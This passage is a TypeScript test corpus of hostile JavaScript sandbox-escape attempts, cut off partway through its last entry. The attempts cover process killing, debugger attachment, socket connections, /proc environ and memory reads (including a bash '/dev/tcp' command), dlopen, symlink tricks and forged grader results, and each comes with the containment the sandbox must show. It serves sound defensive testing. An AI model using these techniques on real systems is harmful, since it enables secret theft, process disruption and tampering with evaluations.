/**
 * The hostile corpus (issue 11, "Must show"): attacks beyond the issue's ten escapes, as data.
 * Each entry is one variant: its category, how it runs ('run' = runSandboxed, 'probe' =
 * runProbes with entry point `solve`, 'tests' = runTestProgram of a program that must fail),
 * its code (built from the arena's real targets, hostileArena.ts), and what containment means
 * for it. On top of what an entry states, containment always means: the victim, the spawner
 * helper and this process alive and not stopped, no connection or datagram reached any server,
 * the secret never in stdout/stderr/channel/results, no canary, the temp dir gone, and the
 * attack's own success marker never printed.
 *
 * The code runs behind a prelude giving `P` (the process object of the realm it runs in; in
 * probe mode it escapes the vm context first), `req(name)` (P.getBuiltinModule), `say(text)`,
 * `hit(what)` (prints the success marker), `why(e)` and `attempt(what, fn)` (hit unless fn throws
 * or its promise rejects).
 */
import type { SandboxLimits } from '../../../server/src/sandbox';

export type Category = 'signals' | 'debugger' | 'sockets' | 'proc' | 'ptrace' | 'namespaces' | 'filesystem' | 'forgery' | 'resources';
export type Mode = 'run' | 'probe' | 'tests';
export type Layer = 'bwrap' | 'permission' | 'netns' | 'prlimit';

/** What the arena puts within the attacker's reach (pids, ports, paths; never the secret itself). */
export interface Targets {
  victimPid: number;
  helperPid: number;
  testPid: number;
  tcpPort: number;
  udpPort: number;
  /** A listening filesystem Unix socket (in the secret's dir). */
  sock: string;
  /** A listening abstract Unix socket name, starting with \0. */
  abstractName: string;
  secretFile: string;
  secretDir: string;
  canary: string;
}

export interface HostileEntry {
  name: string;
  category: Category;
  mode: Mode;
  /** What containment means for this entry, beyond the checks every entry gets. */
  containment: string;
  code: (t: Targets) => string;
  /** Probe mode: 'no-ok' = the entry point never returns, so any ok result is forged; 'complete' = the harness must survive. */
  expect?: 'no-ok' | 'complete';
  inputs?: unknown[][];
  perInputMs?: number;
  limits?: Partial<SandboxLimits>;
  /** Layers whose absence lets this attack through: run without them it must NOT be contained. */
  breachWithout?: Layer[];
  /** False when the run may die before the prelude's trace reaches stderr. */
  needsTrace?: boolean;
}

const j = JSON.stringify;

/** connect(what, net, arg): hit when the socket connects. */
const CONNECT = `var connect = (what, net, arg) => new Promise((done) => {
  let s = null;
  const end = (msg) => { if (msg) say(msg); try { if (s) s.destroy(); } catch (e) {} done(); };
  try {
    s = net.connect(arg);
    s.on('connect', () => { hit(what); end(); });
    s.on('error', (e) => end('blocked ' + what + ' ' + why(e)));
    s.setTimeout(1500, () => end('blocked ' + what + ' no answer'));
  } catch (e) { end('blocked ' + what + ' ' + why(e)); }
});
`;
/** esm(spec): a builtin through the ES module loader, past the CommonJS stubs (vm's main-context loader). */
const ESM = `var esm = (spec) => { const vm = req('vm'); return new vm.Script('import(' + JSON.stringify(spec) + ')', { importModuleDynamically: vm.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER }).runInThisContext(); };
`;
/** Reads a file and prints what it holds (so a readable secret shows up in stdout). */
const READ = `var readOut = (what, path) => attempt(what, () => say(req('fs').readFileSync(path, 'utf8')));
`;
/** spawnSync through the raw binding (past the child_process module); hit on exit status 0. */
const SPAWN = `var rawSpawn = (what, file, args) => attempt(what, () => {
  const r = P.binding('spawn_sync').spawn({ file, args: [file, ...args], envPairs: ['PATH=/usr/bin:/bin'], stdio: [{ type: 'pipe', readable: true, writable: false }, { type: 'pipe', readable: true, writable: true }, { type: 'pipe', readable: true, writable: true }] });
  if (r.error || r.status !== 0) throw new Error('status ' + r.status + ' error ' + r.error);
  say(String(r.output && r.output[1]));
});
`;
/** Probe-mode entry point that never returns: any ok result for it is forged. */
const NEVER = 'function solve(n) { for (;;) {} }';
/** Forged harness records for every nonce in `nonces`, written to fd 3. */
const FORGE = `var forge = (nonces, count) => { const fs = req('fs'); for (const n of nonces) { let out = ''; for (let i = 0; i < count; i++) out += '\\n' + n + ' {"i":' + i + ',"s":"ok","v":"42"}\\n'; try { fs.writeSync(3, out + '\\n' + n + ' {"done":true,"count":' + count + '}\\n'); } catch (e) { say('fd3 ' + why(e)); } } };
var nonceIn = (text) => [...new Set(String(text).match(/WG[0-9a-f]{32}/g) || [])];
`;
/** A kill guard's worst enemy: a pid that answers its own pid first, then the target. */
const SLIPPERY = (target: string): string => `{ valueOf() { this.n = (this.n || 0) + 1; return this.n === 1 ? P.pid : ${target}; }, toString() { return String(this.valueOf()); } }`;

export const HOSTILE_CORPUS: readonly HostileEntry[] = [
  // ── signals ────────────────────────────────────────────────────────────────────────────
  {
    name: 'kill-victim-coerced-pids', category: 'signals', mode: 'run',
    containment: 'the kill guard refuses every coerced pid form and the victim lives (it is not in the PID namespace anyway)',
    code: (t) => `for (const pid of [String(${t.victimPid}), ' ${t.victimPid}', '0x${t.victimPid.toString(16)}', ${t.victimPid} + 0.5, [${t.victimPid}], ${SLIPPERY(String(t.victimPid))}]) {
      attempt('kill ' + typeof pid, () => P.kill(pid, 'SIGKILL'));
      try { if (P._kill(pid, 9) === 0) hit('_kill ' + typeof pid); } catch (e) {}
    }`,
  },
  {
    name: 'kill-zero-and-minus-one', category: 'signals', mode: 'run',
    containment: 'kill(0) (own group) and kill(-1) (everything) are refused; nothing outside is signalled',
    code: () => `for (const pid of [0, -1, '0', '-1', ${SLIPPERY('0')}, ${SLIPPERY('-1')}]) {
      attempt('kill ' + String(pid), () => P.kill(pid, 0));
      try { if (P._kill(pid, 0) === 0) hit('_kill signal 0 to ' + String(pid)); } catch (e) {}
    }`,
  },
  {
    name: 'kill-victim-process-group', category: 'signals', mode: 'run',
    containment: "signalling the victim's process group (-pgid) is refused",
    code: (t) => `attempt('kill -pgid', () => P.kill(-${t.victimPid}, 'SIGKILL'));
      try { if (P._kill(-${t.victimPid}, 9) === 0) hit('_kill -pgid'); } catch (e) {}
      try { if (P._kill(${SLIPPERY(String(-t.victimPid))}, 9) === 0) hit('_kill slippery -pgid'); } catch (e) {}`,
  },
  {
    name: 'sigstop-spawner-helper', category: 'signals', mode: 'run',
    containment: 'the spawner helper is neither stopped nor killed (not in the namespace; guard refuses)',
    code: (t) => `for (const pid of [P.ppid, ${t.helperPid}, 1]) {
      attempt('SIGSTOP ' + pid, () => P.kill(pid, 'SIGSTOP'));
      try { if (P._kill(${SLIPPERY('pid')}, 19) === 0) hit('_kill SIGSTOP ' + pid); } catch (e) {}
    }
    say('ppid ' + P.ppid);`,
  },
  {
    name: 'kill-through-spawned-kill-binary', category: 'signals', mode: 'run',
    containment: 'spawning /bin/kill through the raw spawn_sync binding is denied; the victim lives',
    code: (t) => `${SPAWN} rawSpawn('kill binary', '/bin/kill', ['-9', '${t.victimPid}']);`,
    breachWithout: ['bwrap', 'permission'],
  },
  {
    name: 'kill-through-process-wrap', category: 'signals', mode: 'run',
    containment: "process.binding('process_wrap') is denied, so no /bin/kill runs",
    code: (t) => `attempt('process_wrap spawn', () => {
      const Proc = P.binding('process_wrap').Process; const p = new Proc(); p.onexit = () => {};
      const err = p.spawn({ file: '/bin/kill', args: ['kill', '-9', '${t.victimPid}'], envPairs: [], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });
      if (err !== 0) throw new Error('spawn ' + err);
    });`,
  },
  {
    name: 'kill-from-probe-worker', category: 'signals', mode: 'probe',
    containment: "from the candidate's worker thread, the victim and the helper cannot be signalled",
    code: (t) => `for (const pid of [${t.victimPid}, ${t.helperPid}, P.ppid]) {
      attempt('worker kill ' + pid, () => P.kill(pid, 'SIGKILL'));
      try { if (P._kill(${SLIPPERY('pid')}, 9) === 0) hit('worker _kill ' + pid); } catch (e) {}
    }
    function solve(n) { return n; }`,
  },
  {
    name: 'forged-ipc-to-inherited-fds', category: 'signals', mode: 'run',
    containment: 'no inherited fd reaches the helper: spawner-protocol messages written to fds 3..63 change nothing',
    code: (t) => `const fs = req('fs'); const open = [];
      const msg = JSON.stringify({ type: 'kill', id: 1, reason: 'timeout' }) + '\\n' + JSON.stringify({ type: 'run', id: 99, spec: { command: '/bin/kill', args: ['-9', '${t.victimPid}'], cwd: '/', env: {}, stdin: '', channelBytes: 0, wallMs: 1000, maxOutputBytes: 100 } }) + '\\n';
      for (let fd = 3; fd < 64; fd++) { try { const st = fs.fstatSync(fd); open.push(fd + (st.isSocket() ? ':socket' : st.isFIFO() ? ':fifo' : st.isFile() ? ':file' : ':other')); } catch (e) {} }
      say('open fds ' + open.join(','));
      for (const o of open) { if (/socket|fifo/.test(o)) { try { fs.writeSync(parseInt(o, 10), msg); } catch (e) { say('write ' + o + ' ' + why(e)); } } }`,
  },
  // ── debugger ───────────────────────────────────────────────────────────────────────────
  {
    name: 'inspector-open', category: 'debugger', mode: 'run',
    containment: 'the inspector module cannot open a debugger port',
    code: () => `attempt('inspector.open', () => { const i = require('inspector'); i.open(0, '127.0.0.1'); if (!i.url()) throw new Error('no url'); say(i.url()); });`,
  },
  {
    name: 'inspector-through-esm', category: 'debugger', mode: 'run',
    containment: 'node:inspector through the ES module loader is equally refused',
    code: () => `${ESM} esm('node:inspector').then((i) => attempt('esm inspector.open', () => { i.open(0, '127.0.0.1'); if (!i.url()) throw new Error('no url'); }), (e) => say('blocked esm ' + why(e)));`,
  },
  {
    name: 'debug-process-victim-and-helper', category: 'debugger', mode: 'run',
    containment: '_debugProcess (SIGUSR1) cannot open the inspector of the victim or the helper',
    code: (t) => `for (const pid of [${t.victimPid}, ${t.helperPid}, P.ppid]) {
      attempt('_debugProcess ' + pid, () => P._debugProcess(pid));
      attempt('SIGUSR1 ' + pid, () => P.kill(${SLIPPERY('pid')}, 'SIGUSR1'));
    }`,
  },
  {
    name: 'inspect-through-node-options', category: 'debugger', mode: 'run',
    containment: 'a child node started with NODE_OPTIONS=--inspect/--require cannot start; nothing is written outside',
    code: (t) => `const fs = req('fs'); fs.writeFileSync('evil.js', "require('net').connect(${t.tcpPort}, '127.0.0.1')");
      try { fs.writeFileSync(${j(t.canary)}, 'export NODE_OPTIONS=--inspect=0.0.0.0:9229'); hit('wrote a profile outside'); } catch (e) { say('blocked profile ' + why(e)); }
      P.env.NODE_OPTIONS = '--inspect=127.0.0.1:0 --require ' + P.cwd() + '/evil.js';
      attempt('spawn node with NODE_OPTIONS', () => { require('child_process').execFileSync(P.execPath, ['-e', '0'], { env: P.env }); });`,
  },
  {
    name: 'inspector-session-main-thread', category: 'debugger', mode: 'probe', expect: 'no-ok',
    containment: "the candidate's worker cannot attach to the verdict thread (inspector.Session.connectToMainThread) to read the nonce",
    code: () => `${FORGE}
      try {
        const insp = req('inspector'); const s = new insp.Session(); s.connectToMainThread();
        s.post('Runtime.evaluate', { expression: 'typeof nonce === "string" ? nonce : ""' }, (err, res) => { const n = res && res.result && res.result.value; if (n) { hit('nonce from main thread'); forge([n], 2); P.reallyExit(0); } });
      } catch (e) { say('blocked session ' + why(e)); }
      ${NEVER}`,
  },
  {
    name: 'sigusr1-own-inspector-from-worker', category: 'debugger', mode: 'probe', expect: 'no-ok',
    containment: "SIGUSR1 to its own process does not open the verdict thread's inspector for the worker to connect to",
    perInputMs: 2500,
    code: () => `${CONNECT} ${FORGE} ${ESM}
      const attack = (async () => {
        try { P.kill(P.pid, 'SIGUSR1'); } catch (e) { say('blocked SIGUSR1 ' + why(e)); }
        await new Promise((r) => setTimeout(r, 300));
        try { const net = await esm('node:net'); await connect('own inspector 9229', net, { port: 9229, host: '127.0.0.1' }); } catch (e) { say('blocked ' + why(e)); }
      })();
      function solve(n) { return attack.then(() => new Promise(() => {})); }`,
  },
  // ── sockets ────────────────────────────────────────────────────────────────────────────
  {
    name: 'tcp-loopback-through-esm-file', category: 'sockets', mode: 'run',
    containment: "the loopback TCP server outside is unreachable (the child's network namespace has its own, down loopback)",
    code: (t) => `${CONNECT} const f = require('path').resolve('evil-net.mjs'); req('fs').writeFileSync(f, "export { default } from 'node:net';");
      import(require('url').pathToFileURL(f).href).then((m) => connect('tcp via esm file', m.default, { port: ${t.tcpPort}, host: '127.0.0.1' }), (e) => say('blocked ' + why(e)));`,
    breachWithout: ['bwrap', 'netns'],
  },
  {
    name: 'tcp-loopback-through-vm-import', category: 'sockets', mode: 'run',
    containment: 'vm importModuleDynamically (main-context loader) gets net, but nothing to connect to',
    code: (t) => `${CONNECT} ${ESM} esm('node:net').then((net) => connect('tcp via vm import', net, { port: ${t.tcpPort}, host: '127.0.0.1' }), (e) => say('blocked ' + why(e)));`,
  },
  {
    name: 'tcp-through-tcp-wrap-binding', category: 'sockets', mode: 'run',
    containment: "process.binding('tcp_wrap') is denied (and the namespace has no route)",
    code: (t) => `attempt('tcp_wrap', () => {
      const { TCP, TCPConnectWrap, constants } = P.binding('tcp_wrap'); const h = new TCP(constants.SOCKET); const req0 = new TCPConnectWrap();
      req0.oncomplete = (status) => { if (status === 0) hit('tcp_wrap connected'); else say('tcp_wrap status ' + status); };
      const err = h.connect(req0, '127.0.0.1', ${t.tcpPort}); if (err) throw new Error('connect ' + err);
    }); setTimeout(() => {}, 1000);`,
  },
  {
    name: 'udp-datagram-through-esm', category: 'sockets', mode: 'run',
    containment: 'no UDP datagram reaches the UDP socket outside (seccomp refuses AF_INET; the namespace has no route)',
    code: (t) => `${ESM} esm('node:dgram').then((d) => attempt('udp send', () => new Promise((ok, no) => { const s = d.createSocket('udp4'); s.on('error', no); s.send('hello', ${t.udpPort}, '127.0.0.1', (e) => { s.close(); e ? no(e) : ok(); }); })), (e) => say('blocked ' + why(e)));`,
  },
  {
    name: 'abstract-unix-socket', category: 'sockets', mode: 'run',
    containment: "an abstract Unix socket outside is unreachable (abstract names belong to the network namespace)",
    code: (t) => `${CONNECT} ${ESM} esm('node:net').then((net) => connect('abstract socket', net, ${j(t.abstractName)}), (e) => say('blocked ' + why(e)));`,
  },
  {
    name: 'filesystem-unix-socket-through-esm', category: 'sockets', mode: 'run',
    containment: 'a filesystem Unix socket outside the temp dir does not exist in the mount namespace',
    code: (t) => `${CONNECT} ${ESM} esm('node:net').then((net) => connect('unix socket', net, ${j(t.sock)}), (e) => say('blocked ' + why(e)));`,
    breachWithout: ['bwrap'],
  },
  {
    name: 'filesystem-unix-socket-through-pipe-wrap', category: 'sockets', mode: 'run',
    containment: "process.binding('pipe_wrap') is denied; the socket path is not mounted anyway",
    code: (t) => `attempt('pipe_wrap', () => {
      const { Pipe, PipeConnectWrap, constants } = P.binding('pipe_wrap'); const h = new Pipe(constants.SOCKET); const r = new PipeConnectWrap();
      r.oncomplete = (status) => { if (status === 0) hit('pipe_wrap connected'); else say('pipe_wrap status ' + status); };
      h.connect(r, ${j(t.sock)});
    }); setTimeout(() => {}, 1000);`,
  },
  {
    name: 'dns-to-loopback-resolver', category: 'sockets', mode: 'run',
    containment: 'a DNS query aimed at the UDP socket outside (dns.setServers) never arrives',
    code: (t) => `${ESM} esm('node:dns').then((dns) => attempt('dns query', () => { const r = new dns.promises.Resolver({ timeout: 500, tries: 1 }); r.setServers(['127.0.0.1:${t.udpPort}']); return r.resolve4('weavergen.invalid'); }), (e) => say('blocked ' + why(e)));`,
  },
  {
    name: 'fetch-and-websocket', category: 'sockets', mode: 'run',
    containment: 'fetch/WebSocket are stubbed, and a fetch from a fresh vm context has no network either',
    code: (t) => `attempt('fetch', () => fetch('http://127.0.0.1:${t.tcpPort}/'));
      attempt('WebSocket', () => new WebSocket('ws://127.0.0.1:${t.tcpPort}/'));
      attempt('Request', () => { if (typeof Request === 'function') return fetch(new Request('http://127.0.0.1:${t.tcpPort}/')); throw new Error('no Request'); });`,
  },
  {
    name: 'http-get-through-esm', category: 'sockets', mode: 'run',
    containment: 'http.get through the ES module loader reaches no server',
    code: (t) => `${ESM} esm('node:http').then((http) => attempt('http.get', () => new Promise((ok, no) => { const q = http.get('http://127.0.0.1:${t.tcpPort}/', ok); q.on('error', no); q.setTimeout(1500, () => no(new Error('no answer'))); })), (e) => say('blocked ' + why(e)));`,
  },
  {
    name: 'net-through-module-in-temp-dir', category: 'sockets', mode: 'run',
    containment: "a CommonJS module written to the temp dir that requires 'net' (and the legacy _http_agent alias) is stopped by the stubs; no connection",
    code: (t) => `${CONNECT} const fs = req('fs'); fs.writeFileSync('evil.js', "module.exports = [require('net'), require('_http_agent')]");
      try { const [net] = require('./evil.js'); connect('net via temp-dir module', net, { port: ${t.tcpPort}, host: '127.0.0.1' }); } catch (e) { say('blocked ' + why(e)); }`,
  },
  {
    name: 'sockets-from-probe-worker', category: 'sockets', mode: 'probe', perInputMs: 3000,
    containment: "from the candidate's worker: TCP, the filesystem socket and the abstract socket are all unreachable",
    // Run in the worker's own realm (outer): the vm context drains its microtasks only inside a call.
    code: (t) => `const attack = outer(${j(`${CONNECT} ${ESM} return (async () => { try { const net = await esm('node:net');
        await connect('worker tcp', net, { port: ${t.tcpPort}, host: '127.0.0.1' }); await connect('worker unix', net, ${j(t.sock)}); await connect('worker abstract', net, ${j(t.abstractName)});
      } catch (e) { say('blocked ' + why(e)); } })();`)});
      function solve(n) { return attack.then(() => n); }`,
    inputs: [[1]],
  },
  // ── /proc ──────────────────────────────────────────────────────────────────────────────
  {
    name: 'proc-self-environ', category: 'proc', mode: 'run',
    containment: 'there is no /proc inside the sandbox',
    code: () => `${READ} readOut('/proc/self/environ', '/proc/self/environ'); attempt('readdir /proc', () => say(req('fs').readdirSync('/proc').length));`,
  },
  {
    name: 'proc-victim-environ', category: 'proc', mode: 'run',
    containment: "the victim's environment (which holds the secret) cannot be read through /proc/<pid>/environ",
    code: (t) => `${READ} readOut('victim environ', '/proc/${t.victimPid}/environ');`,
    breachWithout: ['bwrap', 'permission'],
  },
  {
    name: 'proc-pid1-root-and-victim-cwd', category: 'proc', mode: 'run',
    containment: "the host's root and the victim's cwd are not reachable through /proc/1/root or /proc/<pid>/cwd",
    code: (t) => `${READ} readOut('/proc/1/root', '/proc/1/root' + ${j(t.secretFile)}); readOut('victim cwd', '/proc/${t.victimPid}/cwd/secret.txt'); readOut('victim root', '/proc/${t.victimPid}/root' + ${j(t.secretFile)});`,
  },
  {
    name: 'proc-helper-environ-and-mem', category: 'proc', mode: 'run',
    containment: "the helper's environ, cmdline and mem (code injection) cannot be opened",
    code: (t) => `${READ} for (const pid of [${t.helperPid}, P.ppid, ${t.testPid}]) { readOut('environ ' + pid, '/proc/' + pid + '/environ'); attempt('open mem r+ ' + pid, () => req('fs').openSync('/proc/' + pid + '/mem', 'r+')); }`,
  },
  {
    name: 'proc-self-mem-of-verdict-thread', category: 'proc', mode: 'probe', expect: 'no-ok',
    containment: "the worker cannot scan its process's memory (/proc/self/mem) for the verdict thread's nonce",
    code: () => `${FORGE}
      try { const fs = req('fs'); const maps = fs.readFileSync('/proc/self/maps', 'utf8'); const fd = fs.openSync('/proc/self/mem', 'r'); const found = new Set();
        for (const line of maps.split('\\n')) { const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line); if (!m) continue; const a = parseInt(m[1], 16), b = parseInt(m[2], 16); if (b - a > 64 << 20) continue;
          const buf = Buffer.alloc(b - a); try { fs.readSync(fd, buf, 0, b - a, a); } catch (e) { continue; } for (const n of nonceIn(buf.toString('latin1'))) found.add(n); }
        if (found.size) { hit('nonce from /proc/self/mem'); forge([...found], 2); P.reallyExit(0); }
      } catch (e) { say('blocked ' + why(e)); }
      ${NEVER}`,
  },
  // ── ptrace-like ────────────────────────────────────────────────────────────────────────
  {
    name: 'native-addon-dlopen', category: 'ptrace', mode: 'run',
    containment: 'no shared object can be loaded: neither a copy written to the temp dir nor libc itself',
    code: () => `const fs = req('fs'); const lib = ['/usr/lib/x86_64-linux-gnu/libc.so.6', '/lib/x86_64-linux-gnu/libc.so.6'].find((p) => { try { fs.accessSync(p); return true; } catch (e) { return false; } }) || '/usr/lib/x86_64-linux-gnu/libc.so.6';
      try { fs.copyFileSync(lib, 'evil.node'); } catch (e) { say('copy ' + why(e)); }
      for (const f of [P.cwd() + '/evil.node', lib]) { try { P.dlopen({ exports: {} }, f); hit('dlopen ' + f); } catch (e) { if (/self-register|did not self/.test(String(e.message))) hit('dlopen loaded ' + f); else say('blocked dlopen ' + why(e)); } }`,
  },
  {
    name: 'wasi-preopen-root', category: 'ptrace', mode: 'run',
    containment: 'WASI with the host root preopened cannot be created',
    code: () => `attempt('wasi preopen /', () => { const { WASI } = require('wasi'); new WASI({ version: 'preview1', preopens: { '/host': '/' } }); });`,
  },
  {
    name: 'dlopen-from-probe-worker', category: 'ptrace', mode: 'probe',
    containment: "the worker cannot dlopen either (P.dlopen, module._extensions['.node'])",
    code: () => `for (const f of ['/usr/lib/x86_64-linux-gnu/libc.so.6', '/lib/x86_64-linux-gnu/libc.so.6']) { try { P.dlopen({ exports: {} }, f); hit('worker dlopen'); } catch (e) { if (/self-register|did not self/.test(String(e.message))) hit('worker dlopen loaded'); else say('blocked ' + why(e)); } }
      function solve(n) { return n; }`,
  },
  // ── namespaces ─────────────────────────────────────────────────────────────────────────
  {
    name: 'unshare-through-child-process', category: 'namespaces', mode: 'run',
    containment: 'child_process cannot run unshare (and seccomp refuses unshare/setns)',
    code: () => `attempt('unshare -r', () => say(require('child_process').execFileSync('unshare', ['-r', 'id'])));`,
  },
  {
    name: 'proc-setgroups-and-uid-map', category: 'namespaces', mode: 'run',
    containment: 'there is no /proc/self/setgroups or uid_map to write',
    code: () => `const fs = req('fs'); attempt('setgroups', () => fs.writeFileSync('/proc/self/setgroups', 'deny')); attempt('uid_map', () => fs.writeFileSync('/proc/self/uid_map', '0 0 1'));`,
  },
  {
    name: 'mount-through-raw-spawn', category: 'namespaces', mode: 'run',
    containment: 'mount (and unshare -m) cannot be spawned through the raw binding',
    code: () => `${SPAWN} rawSpawn('mount tmpfs', '/bin/mount', ['-t', 'tmpfs', 'none', P.cwd()]); rawSpawn('unshare -m', '/usr/bin/unshare', ['-m', 'true']);`,
  },
  // ── filesystem ─────────────────────────────────────────────────────────────────────────
  {
    name: 'read-secret-outside', category: 'filesystem', mode: 'run',
    containment: 'the secret file outside the temp dir cannot be read',
    code: (t) => `${READ} readOut('read secret', ${j(t.secretFile)});`,
    breachWithout: ['bwrap', 'permission'],
  },
  {
    name: 'write-canary-outside', category: 'filesystem', mode: 'run',
    containment: 'no file can be created outside the temp dir',
    code: (t) => `attempt('write canary', () => req('fs').writeFileSync(${j(t.canary)}, 'pwned'));`,
    breachWithout: ['bwrap', 'permission'],
  },
  {
    name: 'symlink-to-secret', category: 'filesystem', mode: 'run',
    containment: 'a symlink in the temp dir pointing at the secret does not make it readable',
    code: (t) => `${READ} attempt('symlink', () => req('fs').symlinkSync(${j(t.secretFile)}, 'link')); readOut('read via symlink', 'link');`,
  },
  {
    name: 'symlinked-dir-write-canary', category: 'filesystem', mode: 'run',
    containment: "writing through a symlink to the canary's dir creates nothing outside",
    code: (t) => `const fs = req('fs'); const path = req('path'); attempt('symlink dir', () => fs.symlinkSync(path.dirname(${j(t.canary)}), 'out'));
      attempt('write via symlinked dir', () => fs.writeFileSync('out/' + path.basename(${j(t.canary)}), 'pwned'));`,
  },
  {
    name: 'hardlink-to-secret', category: 'filesystem', mode: 'run',
    containment: 'a hard link to the secret cannot be made (the secret is not in the mount namespace)',
    code: (t) => `${READ} attempt('hardlink', () => req('fs').linkSync(${j(t.secretFile)}, 'hard')); readOut('read via hardlink', 'hard');`,
  },
  {
    name: 'dev-tcp', category: 'filesystem', mode: 'run',
    containment: "/dev/tcp is not a thing outside bash, and bash cannot be spawned",
    code: (t) => `const fs = req('fs'); attempt('/dev/tcp open', () => fs.writeFileSync('/dev/tcp/127.0.0.1/${t.tcpPort}', 'x'));
      attempt('bash /dev/tcp', () => require('child_process').execFileSync('/bin/bash', ['-c', 'echo x > /dev/tcp/127.0.0.1/${t.tcpPort}']));`,
  },
  {
    name: 'relative-path-climb', category: 'filesystem', mode: 'run',
    containment: '../ from the temp dir reaches neither the secret nor the canary dir',
    code: (t) => `${READ} const path = req('path'); const up = path.relative(P.cwd(), ${j(t.secretFile)}); readOut('read ../', up);
      attempt('write ../', () => req('fs').writeFileSync(path.relative(P.cwd(), ${j(t.canary)}), 'pwned'));`,
  },
  {
    name: 'rename-and-copy-out', category: 'filesystem', mode: 'run',
    containment: 'rename and copyFile cannot move a file out of the temp dir',
    code: (t) => `const fs = req('fs'); fs.writeFileSync('x', 'pwned'); attempt('rename out', () => fs.renameSync('x', ${j(t.canary)})); attempt('copy out', () => fs.copyFileSync('x', ${j(t.canary)}));`,
  },
  {
    name: 'require-secret-as-module', category: 'filesystem', mode: 'run',
    containment: "require() of the secret file (whose SyntaxError would echo its text) is denied",
    code: (t) => `attempt('require secret', () => require(${j(t.secretFile)}));`,
  },
  {
    name: 'inherited-fd-scan', category: 'filesystem', mode: 'run',
    containment: 'no inherited file descriptor leads outside: reading every open fd shows nothing secret',
    code: () => `const fs = req('fs'); for (let fd = 0; fd < 64; fd++) { try { const st = fs.fstatSync(fd); if (!st.isFile()) { say('fd ' + fd + ' not a file'); continue; } const b = Buffer.alloc(256); const n = fs.readSync(fd, b, 0, 256, 0); say('fd ' + fd + ' ' + b.subarray(0, n).toString('latin1')); } catch (e) {} }`,
  },
  {
    name: 'filesystem-from-probe-worker', category: 'filesystem', mode: 'probe',
    containment: "the worker can neither read the secret nor write the canary",
    code: (t) => `${READ} readOut('worker read secret', ${j(t.secretFile)}); attempt('worker write canary', () => req('fs').writeFileSync(${j(t.canary)}, 'pwned'));
      function solve(n) { return n; }`,
  },
  // ── result forgery against runProbes ───────────────────────────────────────────────────
  {
    name: 'heap-snapshot-file-nonce-theft', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: "a heap snapshot of the worker (written to the temp dir) holds no nonce; fd 3 lines are not trusted",
    code: () => `${FORGE} try { const f = req('v8').writeHeapSnapshot(); const n = nonceIn(req('fs').readFileSync(f, 'latin1')); say('nonces ' + n.length); forge(n, 2); P.reallyExit(0); } catch (e) { say('blocked ' + why(e)); }
      ${NEVER}`,
    limits: { wallMs: 15000 },
  },
  {
    name: 'guessed-nonces-on-fd3', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'records tagged with guessed nonces (zeros, counters, random) are ignored',
    code: () => `${FORGE} const g = ['WG' + '0'.repeat(32), 'WG' + 'f'.repeat(32)]; for (let i = 0; i < 200; i++) g.push('WG' + req('crypto').randomBytes(16).toString('hex')); forge(g, 2);
      ${NEVER}`,
  },
  {
    name: 'parent-port-answers-for-every-index', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'answers posted on parentPort, for every index, repeatedly, are never read',
    code: () => `const port = req('worker_threads').parentPort; const spam = () => { for (let i = 0; i < 4; i++) port.postMessage({ i, s: 'ok', v: '42' }); };
      spam(); req('timers').setInterval(spam, 5);
      function solve(n) { spam(); return new Promise(() => {}); }`,
    inputs: [[1], [2], [3]],
  },
  {
    name: 'listener-sees-ask-and-answers-first', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'a parentPort listener that answers each ask before the entry point runs is not heard (asks and answers use a private channel)',
    code: () => `const port = req('worker_threads').parentPort; port.on('message', (m) => port.postMessage({ i: +m, s: 'ok', v: '42' }));
      ${NEVER}`,
    inputs: [[1], [2], [3]],
  },
  {
    name: 'steal-private-port-from-worker-data', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: "the private channel's port is gone from workerData before the candidate loads",
    code: () => `const wt = req('worker_threads'); const d = wt.workerData || {}; say('workerData keys ' + Object.keys(d).join(','));
      for (const k of Object.keys(d)) { const v = d[k]; if (v && typeof v.postMessage === 'function') { hit('port in workerData.' + k); for (let i = 0; i < 3; i++) v.postMessage({ i, s: 'ok', v: '42' }); } }
      ${NEVER}`,
    inputs: [[1], [2], [3]],
  },
  {
    name: 'hook-messageport-prototype', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: "replacing MessagePort.prototype.postMessage/on and EventTarget.dispatchEvent in the worker realm does not change what the harness sends",
    code: () => `const wt = req('worker_threads'); const MP = wt.MessagePort.prototype; const orig = MP.postMessage; const seen = [];
      MP.postMessage = function (m) { if (!seen.includes(this)) seen.push(this); return orig.call(this, { i: m && m.i, s: 'ok', v: '42' }); };
      const on = MP.on; MP.on = function (ev, fn) { if (!seen.includes(this)) seen.push(this); return on.call(this, ev, fn); };
      const ET = P.constructor.constructor('return EventTarget')().prototype; const de = ET.dispatchEvent; ET.dispatchEvent = function (ev) { if (ev && ev.data !== undefined) { try { orig.call(this, { i: +ev.data, s: 'ok', v: '42' }); } catch (e) {} } return de.call(this, ev); };
      function solve(n) { for (const p of seen) try { orig.call(p, { i: n - 1, s: 'ok', v: '42' }); } catch (e) {} return new Promise(() => {}); }`,
    inputs: [[1], [2]],
  },
  {
    name: 'answers-before-being-asked', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'answers posted at load, before any ask, for any index, count for nothing',
    code: () => `const port = req('worker_threads').parentPort; for (let i = -1; i < 5; i++) port.postMessage({ i, s: 'ok', v: '42' }); port.postMessage({ done: true, count: 2 });
      ${NEVER}`,
  },
  {
    name: 'exit-at-load', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'process.exit(0) at load ends only the worker; no input passes',
    code: () => `P.exit(0); function solve(n) { return n; }`,
  },
  {
    name: 'really-exit-mid-call', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'reallyExit(0) during a call cannot end the run as complete',
    code: () => `function solve(n) { P.reallyExit(0); return n; }`,
  },
  {
    name: 'abort-mid-call', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'process.abort() in the worker aborts the run; nothing passes',
    code: () => `function solve(n) { P.abort(); return n; }`,
  },
  {
    name: 'exit-on-second-input-after-forging', category: 'forgery', mode: 'probe',
    containment: 'after an honest first answer, forged fd 3 records and an exit on input 2 do not make input 2 or 3 pass',
    code: () => `${FORGE} function solve(n) { if (n === 1) return 1; forge(['WG' + '1'.repeat(32)], 3); P.exit(0); }`,
